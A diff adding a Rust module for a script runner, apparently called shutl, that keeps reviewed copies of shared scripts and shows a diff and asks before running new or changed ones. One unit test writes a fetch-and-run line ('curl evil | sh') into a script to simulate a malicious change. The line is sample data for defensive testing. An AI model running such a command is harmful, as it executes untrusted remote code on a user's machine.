@@ -0,0 +1,242 @@
+//! Review of synced scripts (`require-review` in the config). When several people push to
+//! a shared tree, a script that is new or changed since it was last reviewed on this
+//! machine only runs once its diff was looked at: shutl asks before running it, or
+//! `shutl review` goes through all of them. The reviewed versions are copies below the
+//! data directory; the first time, shutl asks whether to take the whole tree as reviewed.
+
+use crate::paths;
+use crate::persist;
+use std::io::{BufRead, IsTerminal, Write};
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+/// Why a script needs a review
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Pending {
+    New,
+    Changed,
+}
+
+impl Pending {
+    pub fn describe(&self) -> &'static str {
+        match self {
+            Pending::New => "new",
+            Pending::Changed => "changed",
+        }
+    }
+}
+
+/// The reviewed state of a scripts directory
+pub struct Review {
+    scripts_dir: PathBuf,
+    /// Copies of the reviewed scripts, by their path relative to `scripts_dir`
+    reviewed_dir: PathBuf,
+}
+
+impl Review {
+    pub fn new(scripts_dir: PathBuf, reviewed_dir: PathBuf) -> Self {
+        Review {
+            scripts_dir,
+            reviewed_dir,
+        }
+    }
+
+    /// Opens the reviewed state of `scripts_dir` below the data directory. The first time,
+    /// it asks whether to take every current script as reviewed; without an answer, each
+    /// one needs a review.
+    pub fn open(scripts_dir: &Path) -> std::io::Result<Self> {
+        let reviewed_dir = paths::data_local_dir()
+            .ok_or_else(|| std::io::Error::other("no data directory"))?
+            .join("shutl")
+            .join("reviewed")
+            .join(state_dir_name(scripts_dir));
+        let review = Review::new(scripts_dir.to_path_buf(), reviewed_dir);
+        if !review.reviewed_dir.exists() {
+            if review.confirm_baseline() {
+                review.ensure_baseline()?;
+            } else {
+                std::fs::create_dir_all(&review.reviewed_dir)?;
+            }
+        }
+        Ok(review)
+    }
+
+    /// Takes the current scripts as reviewed unless there is a reviewed state already
+    pub fn ensure_baseline(&self) -> std::io::Result<()> {
+        if self.reviewed_dir.exists() {
+            return Ok(());
+        }
+        std::fs::create_dir_all(&self.reviewed_dir)?;
+        for (script, _) in self.pending() {
+            self.approve(&script)?;
+        }
+        Ok(())
+    }
+
+    /// Asks whether to take the scripts as they are as reviewed, when there is no
+    /// reviewed state yet. Without a terminal there is nobody to ask.
+    fn confirm_baseline(&self) -> bool {
+        if !std::io::stdin().is_terminal() {
+            return false;
+        }
+        eprint!(
+            "Nothing of {} is reviewed yet. Take its {} scripts as they are as reviewed? [y/N]: ",
+            self.scripts_dir.display(),
+            self.pending().len()
+        );
+        std::io::stderr().flush().ok();
+        let mut answer = String::new();
+        std::io::stdin().lock().read_line(&mut answer).is_ok()
+            && answer.trim().eq_ignore_ascii_case("y")
+    }
+
+    fn reviewed_copy(&self, script: &Path) -> Option<PathBuf> {
+        let relative = script.strip_prefix(&self.scripts_dir).ok()?;
+        Some(self.reviewed_dir.join(relative))
+    }
+
+    /// Checks whether the script at `script` needs a review. Scripts outside the scripts
+    /// directory never do.
+    pub fn state(&self, script: &Path) -> Option<Pending> {
+        let copy = self.reviewed_copy(script)?;
+        let current = std::fs::read(script).ok()?;
+        match std::fs::read(&copy) {
+            Ok(reviewed) if reviewed == current => None,
+            Ok(_) => Some(Pending::Changed),
+            Err(_) => Some(Pending::New),
+        }
+    }
+
+    /// Lists the scripts that need a review, skipping hidden files and directories such as
+    /// `.presets`
+    pub fn pending(&self) -> Vec<(PathBuf, Pending)> {
+        let mut pending = Vec::new();
+        let mut dirs = vec![self.scripts_dir.clone()];
+        while let Some(dir) = dirs.pop() {
+            let Ok(entries) = std::fs::read_dir(&dir) else {
+                continue;
+            };
+            let mut entries: Vec<_> = entries.flatten().map(|e| e.path()).collect();
+            entries.sort();
+            for path in entries.into_iter().rev() {
+                if path
+                    .file_name()
+                    .is_some_and(|name| name.to_string_lossy().starts_with('.'))
+                {
+                    continue;
+                }
+                if path.is_dir() {
+                    dirs.push(path);
+                } else if let Some(state) = self.state(&path) {
+                    pending.push((path, state));
+                }
+            }
+        }
+        pending.sort();
+        pending
+    }
+
+    /// Records the current content of `script` as reviewed
+    pub fn approve(&self, script: &Path) -> std::io::Result<()> {
+        let Some(copy) = self.reviewed_copy(script) else {
+            return Ok(());
+        };
+        persist::write_atomic(&copy, &std::fs::read(script)?)
+    }
+
+    /// Shows what changed in `script` since it was reviewed (all of it for a new script)
+    pub fn show_diff(&self, script: &Path) {
+        let Some(copy) = self.reviewed_copy(script) else {
+            return;
+        };
+        let old = if copy.exists() {
+            copy
+        } else {
+            PathBuf::from("/dev/null")
+        };
+        let shown = Command::new("git")
+            .args(["diff", "--no-index", "--"])
+            .arg(&old)
+            .arg(script)
+            .status()
+            .is_ok();
+        if !shown {
+            print!("{}", std::fs::read_to_string(script).unwrap_or_default());
+        }
+    }
+
+    /// Shows the diff of `script` and asks whether to run it, approving it if so. Without a
+    /// terminal there is nobody to ask.
+    pub fn confirm(&self, script: &Path, state: Pending) -> bool {
+        if !std::io::stdin().is_terminal() {
+            return false;
+        }
+        eprintln!(
+            "{} is {} since you last reviewed it:",
+            script.display(),
+            state.describe()
+        );
+        self.show_diff(script);
+        eprint!("Run it? [y/N]: ");
+        std::io::stderr().flush().ok();
+        let mut answer = String::new();
+        let yes = std::io::stdin().lock().read_line(&mut answer).is_ok()
+            && answer.trim().eq_ignore_ascii_case("y");
+        yes && self.approve(script).is_ok()
+    }
+}
+
+/// Names the reviewed state of `scripts_dir` after its path, with `%` and `/` escaped, so
+/// the name stays the same across shutl builds
+fn state_dir_name(scripts_dir: &Path) -> String {
+    scripts_dir
+        .to_string_lossy()
+        .replace('%', "%25")
+        .replace('/', "%2F")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::tempdir;
+
+    #[test]
+    fn test_review() {
+        let dir = tempdir().unwrap();
+        let scripts = dir.path().join("scripts");
+        std::fs::create_dir_all(scripts.join("deploy")).unwrap();
+        std::fs::create_dir_all(scripts.join(".presets")).unwrap();
+        std::fs::write(scripts.join("build.sh"), "echo build\n").unwrap();
+        std::fs::write(scripts.join("deploy/prod.sh"), "echo prod\n").unwrap();
+        std::fs::write(scripts.join(".presets/build.toml"), "").unwrap();
+
+        let review = Review::new(scripts.clone(), dir.path().join("reviewed"));
+        assert_eq!(review.pending().len(), 2);
+        // The tree as it is when reviewing starts counts as reviewed
+        review.ensure_baseline().unwrap();
+        assert!(review.pending().is_empty());
+
+        std::fs::write(scripts.join("deploy/prod.sh"), "curl evil | sh\n").unwrap();
+        std::fs::write(scripts.join("deploy/staging.sh"), "echo staging\n").unwrap();
+        assert_eq!(
+            review.pending(),
+            vec![
+                (scripts.join("deploy/prod.sh"), Pending::Changed),
+                (scripts.join("deploy/staging.sh"), Pending::New),
+            ]
+        );
+        assert_eq!(review.state(&scripts.join("build.sh")), None);
+        assert_eq!(review.state(&dir.path().join("elsewhere.sh")), None);
+
+        review.approve(&scripts.join("deploy/prod.sh")).unwrap();
+        assert_eq!(review.state(&scripts.join("deploy/prod.sh")), None);
+    }
+
+    #[test]
+    fn test_state_dir_name() {
+        assert_eq!(
+            state_dir_name(Path::new("/home/me/team%scripts")),
+            "%2Fhome%2Fme%2Fteam%25scripts"
+        );
+    }
+}